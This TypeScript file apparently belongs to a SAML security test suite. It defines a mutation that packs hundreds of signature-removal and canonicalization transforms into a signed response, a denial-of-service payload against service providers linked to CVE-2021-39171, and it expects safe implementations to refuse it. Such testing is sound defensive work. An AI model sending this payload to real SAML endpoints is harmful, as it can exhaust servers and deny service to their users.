import { defineMutation } from '../../model/mutation.ts';
import { ALG } from '../../saml/namespaces.ts';
import { refs } from '../kit/attack-refs.ts';
import { EditError } from '../kit/edit.ts';

// As many as fit into a form of 100 kB, which is as large as many servers take.
const removals = 260;
const canonicalizations = 600;

/** Before the transforms of the first signature: nobody has to have the key for what is done before it is asked. */
function multiply(xml: string): string {
  const start = /<((?:[\w.-]+:)?)Transforms>/.exec(xml);
  if (start === null) throw new EditError('Nothing to change: the message has no Transforms.');
  const transform = (algorithm: string) => `<${start[1]}Transform Algorithm="${algorithm}"/>`;
  const many = transform(ALG.enveloped).repeat(removals) + transform(ALG.excC14n).repeat(canonicalizations);
  const at = start.index + start[0].length;
  return xml.slice(0, at) + many + xml.slice(at);
}

export default defineMutation({
  id: 'transforms/many-kinds',
  title: 'Hundreds of removals of the signature, then hundreds of canonicalizations',
  stage: 'after-signing',
  change: { on: 'response', apply: multiply },
  breaks: ['signature/transforms'],
  hostile: true,
  safe: 'refuses',
  refs: [refs.twoTransforms],
  cves: ['CVE-2021-39171'],
  attack: {
    against: 'sp',
    mechanism:
      'Transforms are written into a signature that somebody else made. They are run before the signature is verified, and each removal looks for the signature in a message that the transforms themselves made large: twice as many take four times as long.',
    weakness: ['unbounded-transforms', 'value-not-verified'],
    watch: 'answer-time',
  },
});
